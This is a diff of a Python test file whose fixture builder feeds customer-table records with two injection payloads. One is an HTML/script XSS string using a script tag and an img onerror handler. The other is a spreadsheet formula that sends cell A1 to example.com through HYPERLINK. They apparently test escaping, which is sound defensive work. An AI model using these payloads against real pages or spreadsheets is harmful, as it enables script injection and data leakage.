@@ -6,7 +6,7 @@ import numpy as np
 import pandas as pd
 
 from segmentation import workflow
-from segmentation.records import AsideRow, ColumnInfo, CustomerTable, ReadReport, Step
+from segmentation.records import AsideRow, ColumnInfo, CustomerTable, Note, ReadReport, Step
 
 MARKUP = "</script><script>window.hacked=1</script><img src=x onerror=window.hacked=1>"
 FORMULA = '=HYPERLINK("http://example.com?"&A1,"click")'
@@ -40,8 +40,11 @@ def make_table(texts, *, names=(MARKUP, FORMULA, "- category")):
         delimiter=",",
         n_rows=n,
         n_columns=5,
-        steps=tuple(Step("trimmed", MARKUP, 1, 1, text) for text in texts),
-        aside=(AsideRow(7, FORMULA, MARKUP),),
+        steps=tuple(
+            Step("trimmed", MARKUP, 1, 1, code="counted_as", values={"value": text})
+            for text in texts
+        ),
+        aside=(AsideRow(7, FORMULA, Note(MARKUP)),),
     )
     return CustomerTable(frame, columns, report)
 
